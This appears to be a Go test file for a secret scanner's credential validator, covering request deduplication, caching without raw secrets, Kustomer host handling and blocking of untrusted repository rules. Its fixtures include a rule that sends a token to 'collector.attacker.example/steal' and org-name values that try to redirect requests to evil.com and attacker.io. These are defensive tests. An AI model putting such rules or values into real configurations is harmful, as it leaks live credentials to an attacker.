package validate

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/scanner-dev/scanner/finding"
	"github.com/scanner-dev/scanner/rules"
)

func TestEachCredentialCheckedOnce(t *testing.T) {
	fx := fixture(20)
	s := newCrispStandIn(t)
	s.tokens[fx.ID+":"+fx.Key] = crispToken{tier: "plugin", pluginID: fx.ID2}
	v := New(fastOptions(s.URL, ""))
	var fs []finding.Finding
	for _, path := range []string{"a.env", "b.env", "c/d.json", "e.go", "f.py"} {
		f := crispFinding(fx.ID, fx.Key, "")
		f.Path = path
		fs = append(fs, f)
	}
	v.Validate(context.Background(), fs)
	for _, f := range fs {
		if f.Validation == nil || f.Validation.Status != finding.Live {
			t.Fatalf("%s: %+v", f.Path, f.Validation)
		}
	}
	// one credential: one GET of the account (envelope and plugin id)
	if n := len(s.sent()); n != 1 {
		t.Fatalf("%d requests for one credential copied into five files, want 1", n)
	}
	if got := v.Requests()["crisp"]; got != 1 {
		t.Fatalf("request count %d", got)
	}
}

func TestNothingSentWithoutRawParts(t *testing.T) {
	s := newCrispStandIn(t)
	v := New(fastOptions(s.URL, ""))
	f := finding.Finding{RuleID: "crisp-token", Provider: "crisp", Fingerprint: "sha256:00"}
	got := v.Check(context.Background(), &f)
	if got.Status != finding.Unknown || len(s.sent()) != 0 {
		t.Fatalf("status %s, %d requests", got.Status, len(s.sent()))
	}
}

func TestCacheSavesQuotaAcrossRuns(t *testing.T) {
	fx := fixture(21)
	s := newCrispStandIn(t)
	s.tokens[fx.ID+":"+fx.Key] = crispToken{tier: "plugin"}
	path := filepath.Join(t.TempDir(), "cache.json")
	for run := 0; run < 2; run++ {
		c, err := OpenCache(path, 24*60*60*1e9)
		if err != nil {
			t.Fatal(err)
		}
		opts := fastOptions(s.URL, "")
		opts.Cache = c
		f := crispFinding(fx.ID, fx.Key, "")
		if got := New(opts).Check(context.Background(), &f); got.Status != finding.Live {
			t.Fatalf("run %d: %s", run, got.Status)
		}
		if err := c.Save(); err != nil {
			t.Fatal(err)
		}
	}
	if n := len(s.sent()); n != 1 {
		t.Fatalf("%d requests over two runs, want 1 (the second run answered from the cache)", n)
	}
	if b := readFile(t, path); strings.Contains(b, fx.Key) || strings.Contains(b, fx.ID) {
		t.Fatal("the cache file holds the raw credential")
	}
}

func TestKustomerExpiredAndHost(t *testing.T) {
	fx := fixture(22)
	s := newKustomerStandIn(t)
	s.expired[fx.KustomerExpired] = true
	v := New(fastOptions("", s.URL))
	f := kustomerFinding(fx.KustomerExpired)
	got := v.Check(context.Background(), &f)
	if got.Status != finding.Invalid || !strings.Contains(got.Detail, "expired") {
		t.Fatalf("got %s %q", got.Status, got.Detail)
	}
	c := &kustomerChecker{}
	hosts := map[string]string{
		"acme":          "https://acme.api.kustomerapp.com",
		"evil.com/x?":   "https://api.kustomerapp.com",
		"a.attacker.io": "https://api.kustomerapp.com",
		"":              "https://api.kustomerapp.com",
	}
	for org, want := range hosts {
		if got := c.kustomerBase(&finding.Finding{Details: map[string]string{"org_name": org}}); got != want {
			t.Errorf("org %q: host %s, want %s", org, got, want)
		}
	}
	if got := c.kustomerBase(&finding.Finding{Details: map[string]string{"org_name": "acme", "pod": "prod2"}}); got != "https://acme.api.prod2.kustomerapp.com" {
		t.Errorf("EU pod: %s", got)
	}
}

func TestRepositoryChecksNeedAnAllowedHost(t *testing.T) {
	fx := fixture(23)
	cfg := []byte(`
[[rules]]
id = "acme-token"
regex = '''acme_(?P<token>[A-Za-z0-9]{40})'''
parts = ["token"]
[rules.check]
url = "https://collector.attacker.example/steal?t={{.token}}"
live = [200]
`)
	set, err := rules.ParseConfig(".scanner.toml", cfg, rules.Untrusted())
	if err != nil {
		t.Fatal(err)
	}
	parts := []finding.Part{{Name: "token", Value: finding.NewSecret(fx.Token)}}
	f := finding.Finding{RuleID: "acme-token", Parts: parts, Fingerprint: finding.Fingerprint(parts...)}
	opts := fastOptions("", "")
	opts.Rules = set
	got := New(opts).Check(context.Background(), &f)
	if got.Status != finding.Unknown || !strings.Contains(got.Detail, "not allowed") {
		t.Fatalf("got %s %q: an untrusted check ran", got.Status, got.Detail)
	}
	if strings.Contains(got.Detail, fx.Token) {
		t.Fatal("detail holds the raw token")
	}
}

func TestCheckURLHostMustBeLiteral(t *testing.T) {
	for _, u := range []string{"https://{{.token}}.example.com/", "{{.url}}", "https://example.com{{.path}}"} {
		_, err := rules.ParseConfig("cfg.toml", []byte("[[rules]]\nid = \"x\"\nregex = \"(?P<token>x)\"\nparts = [\"token\"]\n[rules.check]\nurl = \""+u+"\"\nlive = [200]\n"))
		if err == nil {
			t.Errorf("url %q accepted", u)
		}
	}
}
